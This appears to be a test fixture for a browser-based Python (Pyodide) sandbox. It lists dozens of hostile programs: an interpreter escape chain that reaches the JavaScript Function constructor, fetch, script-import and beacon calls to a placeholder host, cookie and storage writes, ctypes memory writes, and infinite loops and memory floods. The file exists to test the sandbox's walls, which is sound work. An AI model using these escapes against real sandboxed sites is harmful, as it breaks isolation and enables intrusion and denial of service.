/** Programs in Python that mean no good, for `python.spec`. Each is tried behind the walls that the page has. */

/** Gets hold of the interpreter that own code is kept from: what runs after it is kept by the browser alone. */
const reach = `importer = next(c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter')
sys = importer.load_module('sys')
real = vars(sys.modules['builtins'])
imp = real['__import__']
core = imp('_pyodide_core')
anything = core.create_once_callable(len)
Function = anything.constructor
`;

/** A call of `h` that does this. */
const h = (body: string): string =>
  `def h(board, goal, rows, columns):\n    ${body.replaceAll('\n', '\n    ')}\n`;

/** JavaScript that is reached for, with all that the interpreter has. */
const js = (script: string): string => `${reach}${h(`return Function(${JSON.stringify(script)})()`)}`;

/** By what it tries. The first thirty reach for what JavaScript has. */
export const hostilePrograms: Readonly<Record<string, string>> = {
  'the module js': `import js\n${h('return js.fetch')}`,
  'the module js, past the guard': `${reach}js = imp('js')\n${h("return js.fetch('SITE/reached')")}`,
  'the module pyodide_js': `${reach}api = imp('pyodide_js')\n${h('return api._module')}`,
  run_js: `${reach}run = imp('pyodide.code', fromlist=['run_js']).run_js\n${h("return run('7')")}`,
  'run_js of the core': `${reach}${h("return core.run_js('7')")}`,
  'the network': js("return fetch('SITE/reached?fetch').then(() => 1), 7"),
  'another request': js(
    "const r = new XMLHttpRequest(); r.open('GET', 'SITE/reached?xhr', false); r.send(); return 7",
  ),
  'a socket': js("new WebSocket('SITE/reached'.replace('http', 'ws')); return 7"),
  'an event source': js("new EventSource('SITE/reached?events'); return 7"),
  'a beacon': js("navigator.sendBeacon('SITE/reached?beacon'); return 7"),
  'a script': js("importScripts('SITE/reached.js'); return 7"),
  'a module': js("import('SITE/reached.js'); return 7"),
  'a worker': js("new Worker('SITE/reached.js'); return 7"),
  'a worker from text': js(
    'new Worker(URL.createObjectURL(new Blob([\'fetch("SITE/reached")\']))); return 7',
  ),
  'a shared worker': js("new SharedWorker('SITE/reached.js'); return 7"),
  'a database': js("indexedDB.open('reached'); return 7"),
  storage: js("localStorage.setItem('reached', '1'); return 7"),
  caches: js("caches.open('reached'); return 7"),
  cookies: js("document.cookie = 'reached=1'; return 7"),
  'a file system of the browser': js('navigator.storage.getDirectory(); return 7'),
  'a channel': js("new BroadcastChannel('reached').postMessage(1); return 7"),
  'a message to the frame': js("postMessage('reached'); return 7"),
  'a message to the page': js("parent.parent.postMessage('reached', '*'); return 7"),
  'the window': js("top.document.title = 'reached'; return 7"),
  'the end of the worker': js('close(); return 7'),
  'a flood of messages': js('for (;;) postMessage(1)'),
  timers: js('setInterval(() => { for (;;); }, 0); return 7'),
  'a promise that goes on': js('const on = () => Promise.resolve().then(on); on(); return 7'),
  'globals by a constructor': `${reach}${h("return anything.constructor.constructor('return this')().fetch('SITE/reached')")}`,
  'prototypes of the worker': `${reach}anything.constructor.prototype.call = len\n${h('return manhattan(board)')}`,

  // What only Python has.
  ctypes: `import ctypes\n${h('return 7')}`,
  'memory by ctypes': `${reach}ctypes = imp('ctypes')\n${h('ctypes.memset(0, 255, 2 ** 20)\nreturn 7')}`,
  'a null pointer': `${reach}ctypes = imp('ctypes')\n${h('return ctypes.string_at(0, 2 ** 30)')}`,
  'a script by a C function': `${reach}ctypes = imp('ctypes')\n${h("return ctypes.CDLL(None).emscripten_run_script(b'postMessage(7)')")}`,
  'the objects of the collector': `${reach}gc = imp('gc')\n${h("found = [o for o in gc.get_objects() if 'JsProxy' in type(o).__name__]\nreturn found[0].fetch('SITE/reached')")}`,
  'frames of the host': `${reach}${h('frame = sys._getframe(1)\nframe.f_globals.clear()\nframe.f_builtins.clear()\nreturn 7')}`,
  'a tracer': `${reach}${h('def trace(frame, event, arg):\n    while True: pass\nsys.settrace(trace)\nreturn manhattan(board)')}`,
  'a profiler of the host': `${reach}${h('sys.setprofile(lambda *given: sys.exit())\nreturn 7')}`,
  'a finalizer without end': `class Kept:\n    def __del__(self):\n        while True: pass\n${h('Kept()\nreturn 7')}`,
  'a huge integer': h('return 3 ** (10 ** 9)'),
  'digits of a huge integer': h('return len(str(7 ** (10 ** 7)))'),
  'a shift': h('return (1 << (1 << 62)) % 2'),
  'a generator without end': h('import itertools\nreturn sum(itertools.count())'),
  'a list without end': h('import itertools\nreturn len(list(itertools.count()))'),
  'a loop without end': h('while True: pass'),
  'a loop that catches all': h(
    'while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass',
  ),
  'a loop at first': 'while True: pass\n',
  'deep recursion': h('return h(board, goal, rows, columns)'),
  'deeper recursion': `${reach}sys.setrecursionlimit(10 ** 9)\n${h('return h(board, goal, rows, columns)')}`,
  'recursion in C': h('nested = []\nfor _ in range(10 ** 6): nested = [nested]\nreturn len(repr(nested))'),
  'a text that doubles': h("text = 'x'\nwhile True: text += text"),
  'memory in small pieces': h('kept = []\nwhile True: kept.append([0] * 1000)'),
  'memory in one piece': h('return len(bytes(2 ** 31))'),
  'output without end': `${reach}${h("while True: real['print']('x' * 10 ** 6)")}`,
  files: `${reach}${h("real['open']('/reached', 'w').write('x' * 10 ** 8)\nreturn 7")}`,
  'a socket of Python': `${reach}socket = imp('socket')\n${h("socket.create_connection(('127.0.0.1', 9))\nreturn 7")}`,
  'a thread': `${reach}thread = imp('_thread')\n${h('thread.start_new_thread(h, ())\nreturn 7')}`,
  'a process': `${reach}os = imp('os')\n${h("return os.system('true')")}`,
  'a sleep': `${reach}time = imp('time')\n${h('time.sleep(10 ** 6)\nreturn 7')}`,
  'a fatal error': `${reach}${h('core.trigger_fatal_error()')}`,
  'a class that is its own number': h(
    'class Number(int):\n    def __le__(self, other):\n        while True: pass\nreturn Number(3)',
  ),
  'words that do not end':
    'class Trouble(Exception):\n    def __str__(self):\n        while True: pass\n' + h('raise Trouble'),
  'eval past the guard': `${reach}${h("return real['eval']('7')")}`,
};

/** A search that does this. */
const search = (body: string): string =>
  `def search(start, goal, tools):\n    ${body.replaceAll('\n', '\n    ')}\n    return None\n`;

/** Of each kind one within a search. */
const inSearches = [
  ...['the network', 'a message to the page', 'a flood of messages', 'memory in small pieces'],
  ...['a loop that catches all', 'a finalizer without end', 'a fatal error'],
];

/** A search has the host's functions behind its tools besides; and what only a search can do. */
export const hostileSearches: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    Object.entries(hostilePrograms)
      .filter(([name]) => inSearches.includes(name))
      .map(([name, code]) => [
        `${name}, in a search`,
        `${code}${search('tools.expand(start)\nh(start.board, goal.board, 3, 3)')}`,
      ]),
  ),
  'the host behind tools': search(`for name in ('expand', 'h', 'select', 'reject', 'bound'):
    for cell in getattr(tools, name).__closure__ or ():
        try:
            cell.cell_contents.constructor("fetch('SITE/reached'); postMessage('reached'); return 7")()
        except BaseException:
            pass`),
  'the host called wrongly': search(`for name in ('expand', 'h', 'select'):
    for cell in getattr(tools, name).__closure__ or ():
        for given in ((), (None,), ('x' * 10 ** 6,), (b'x', 10 ** 9, True), ([], -1, 'no')):
            try:
                cell.cell_contents(*given)
            except BaseException:
                pass`),
  'calls without end': search('while True: tools.select(start)'),
  'expansions without end': search('while True: tools.expand(start)'),
  'expansions that catch all': search(
    'while True:\n    try: tools.expand(start)\n    except BaseException: pass',
  ),
  'all nodes kept': search('kept = []\nwhile True: kept.extend(tools.expand(start))'),
  'boards without end': `class Node:
    @property
    def board(self):
        while True: pass
${search('tools.expand(Node())')}`,
  'parents without end': `class Node:
    board = (1, 2, 3, 4, 5, 6, 7, 8, 0)
    @property
    def parent(self):
        return Node()
${search('return Node()')}`,
  'a sort that does not end': search('sorted([1, 2], key=lambda one: [0 for _ in iter(int, 1)])'),
};
